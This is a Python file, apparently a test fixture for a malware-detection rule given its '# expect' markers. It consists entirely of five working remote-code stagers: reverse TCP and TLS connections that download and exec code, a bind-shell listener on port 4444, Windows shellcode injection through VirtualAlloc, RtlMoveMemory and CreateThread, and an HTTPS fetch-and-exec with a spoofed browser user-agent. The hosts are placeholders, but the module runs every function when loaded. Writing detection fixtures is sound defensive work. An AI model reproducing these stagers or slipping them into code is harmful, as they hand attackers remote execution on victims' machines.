import base64
import ctypes
import socket
import ssl
import struct
import sys
import zlib


def plain():
    s = socket.socket(2, socket.SOCK_STREAM)
    s.connect(("192.0.2.7", 4444))
    size = struct.unpack(">I", s.recv(4))[0]
    data = s.recv(size)
    while len(data) < size:
        data += s.recv(size - len(data))
    exec(data, {"s": s})  # expect


def packed_over_tls():
    s = ssl.wrap_socket(socket.create_connection(("stage.invalid", 443)))
    size = struct.unpack(">I", s.recv(4))[0]
    data = b""
    while len(data) < size:
        data += s.recv(size - len(data))
    exec(zlib.decompress(base64.b64decode(data)), {"s": s})  # expect


def waits_for_it():
    door = socket.socket()
    door.bind(("0.0.0.0", 4444))
    door.listen(1)
    s, _ = door.accept()
    (size,) = struct.unpack("!Q", s.recv(8))
    code = compile(s.recv(size), "<stage>", "exec")
    exec(code)  # expect


def machine_code():
    s = socket.create_connection(("stage.invalid", 8080))
    size = int.from_bytes(s.recv(4), "little")
    data = b""
    while len(data) < size:
        data += s.recv(size - len(data))
    kernel = ctypes.windll.kernel32
    memory = kernel.VirtualAlloc(0, len(data), 0x3000, 0x40)
    kernel.RtlMoveMemory(memory, bytes(data), len(data))  # expect
    kernel.CreateThread(0, 0, memory, 0, 0, 0)


def over_https():
    name = {2: "urllib2", 3: "urllib.request"}[sys.version_info[0]]
    web = __import__(name, fromlist=["build_opener"])
    opener = web.build_opener()
    opener.addheaders = [("User-Agent", "Mozilla/5.0")]
    exec(opener.open("https://192.0.2.7:8443/abcd").read())  # expect


plain()
packed_over_tls()
waits_for_it()
machine_code()
over_https()
